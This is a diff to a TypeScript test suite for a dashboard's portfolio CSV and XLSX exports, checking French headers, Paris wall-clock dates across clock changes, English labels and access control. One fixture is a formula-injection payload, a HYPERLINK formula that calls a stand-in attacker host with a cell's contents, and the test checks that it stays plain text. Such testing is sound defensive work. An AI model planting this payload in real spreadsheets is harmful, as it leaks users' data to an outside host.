@@ -1,5 +1,6 @@
+import ExcelJS from 'exceljs';
 import Papa from 'papaparse';
-import { buildPortfolioCsv, formatParisDateTime, neutraliseFormula } from '../../server/portfolio-export';
+import { buildPortfolioCsv, formatParisDateTime, neutraliseFormula, parisSpreadsheetDate } from '../../server/portfolio-export';
 import { apiClient, createUser, startHarness, type Harness, type TestUser } from '../support/harness';
 
 /**
@@ -7,7 +8,7 @@ import { apiClient, createUser, startHarness, type Harness, type TestUser } from
  * written straight into the read model (the export reads nothing else), under a template key of
  * this test only, and removed afterwards.
  */
-describe('portfolio CSV export', () => {
+describe('portfolio CSV and XLSX exports', () => {
   let h: Harness;
   let manager: TestUser;
   const templateKey = `export-${Date.now()}`;
@@ -54,6 +55,63 @@ describe('portfolio CSV export', () => {
     // Partners have no portfolio.
     const partner = await createUser(h, 'partner');
     expect((await apiClient(h.apiUrl).get(`/api/v1/dashboard/export.csv`, partner.token)).status).toBe(403);
+  });
+
+  it('exports the same rows as an XLSX workbook: real Paris dates in a French format, names, text that stays text, every row', async () => {
+    const res = await fetch(`${h.apiUrl}/api/v1/dashboard/export.xlsx?templateKey=${templateKey}`, { headers: { Authorization: `Bearer ${manager.token}` } });
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="jalons-portefeuille-\d{4}-\d{2}-\d{2}\.xlsx"$/);
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(Buffer.from(await res.arrayBuffer()) as unknown as ArrayBuffer);
+    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Portefeuille']);
+    const sheet = workbook.worksheets[0]!;
+    const values = (r: number) => (sheet.getRow(r).values as ExcelJS.CellValue[]).slice(1);
+    expect(values(1)).toEqual(['Programme', 'Programme parent', 'Modèle', 'État', 'Santé', 'Date de démarrage', 'Prochaine échéance', 'Étapes en retard']);
+    expect(sheet.rowCount).toBe(ROWS + 1); // every row, the header aside
+
+    // Late first: 23:31:10 UTC on 30 November is 00:31:10 on 1 December in Paris, stored as that wall-clock time.
+    const first = sheet.getRow(2);
+    expect(values(2)).toEqual(['DEFI — Destination Formation Innovante', undefined, 'Consultation propriété intellectuelle', 'en cours', 'En retard', new Date('2026-01-05T00:00:00Z'), new Date('2026-12-01T00:31:10Z'), 2]);
+    expect(first.getCell(6).type).toBe(ExcelJS.ValueType.Date);
+    expect(first.getCell(6).numFmt).toBe('dd/mm/yyyy');
+    expect(first.getCell(7).type).toBe(ExcelJS.ValueType.Date);
+    expect(first.getCell(7).numFmt).toBe('dd/mm/yyyy hh:mm');
+    expect(first.getCell(8).type).toBe(ExcelJS.ValueType.Number);
+
+    // Summer time: 15:30 UTC is 17:30 in Paris; the formula-looking title is a text cell in the Text format, exactly as typed.
+    const formula = sheet.getRow(3).getCell(1);
+    expect(formula.type).toBe(ExcelJS.ValueType.String);
+    expect(formula.value).toBe('=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")');
+    expect(formula.numFmt).toBe('@');
+    expect(values(3).slice(1)).toEqual(['DEFI — Destination Formation Innovante', 'Consultation propriété intellectuelle', 'en pause', undefined, new Date('2026-03-02T00:00:00Z'), new Date('2026-07-01T17:30:00Z'), 0]);
+
+    // No formula anywhere in the workbook, no template code, no ISO instant.
+    const texts: string[] = [];
+    sheet.eachRow((row) => row.eachCell((cell) => {
+      expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
+      if (typeof cell.value === 'string') texts.push(cell.value);
+    }));
+    expect(texts.join('\n')).not.toContain(templateKey);
+    expect(texts.join('\n')).not.toMatch(/\d{4}-\d{2}-\d{2}T/);
+    const completed = Array.from({ length: ROWS - 2 }, (_, i) => sheet.getRow(i + 4));
+    expect(completed.every((r) => r.getCell(4).value === 'terminé' && r.getCell(7).value === null)).toBe(true);
+
+    // In English: the same rows, English words.
+    const en = await fetch(`${h.apiUrl}/api/v1/dashboard/export.xlsx?templateKey=${templateKey}&lang=en`, { headers: { Authorization: `Bearer ${manager.token}` } });
+    const english = new ExcelJS.Workbook();
+    await english.xlsx.load(Buffer.from(await en.arrayBuffer()) as unknown as ArrayBuffer);
+    expect((english.worksheets[0]!.getRow(2).values as ExcelJS.CellValue[]).slice(1, 6)).toEqual(['DEFI — Destination Formation Innovante', undefined, 'Intellectual property tender', 'in progress', 'Late']);
+
+    const partner = await createUser(h, 'partner');
+    expect((await apiClient(h.apiUrl).get(`/api/v1/dashboard/export.xlsx`, partner.token)).status).toBe(403);
+  });
+
+  it('stores Paris wall-clock times across both clock changes', () => {
+    expect(parisSpreadsheetDate(new Date('2026-03-29T01:30:00Z'))).toEqual(new Date('2026-03-29T03:30:00Z')); // clocks go forward
+    expect(parisSpreadsheetDate(new Date('2026-10-25T00:30:00Z'))).toEqual(new Date('2026-10-25T02:30:00Z')); // still summer time
+    expect(parisSpreadsheetDate(new Date('2026-10-25T01:30:00Z'))).toEqual(new Date('2026-10-25T02:30:00Z')); // the hour repeated, winter time
+    expect(parisSpreadsheetDate(new Date('2026-12-14T17:00:00Z'))).toEqual(new Date('2026-12-14T18:00:00Z'));
   });
 
   it('neutralises every cell that starts like a formula, and only those', () => {
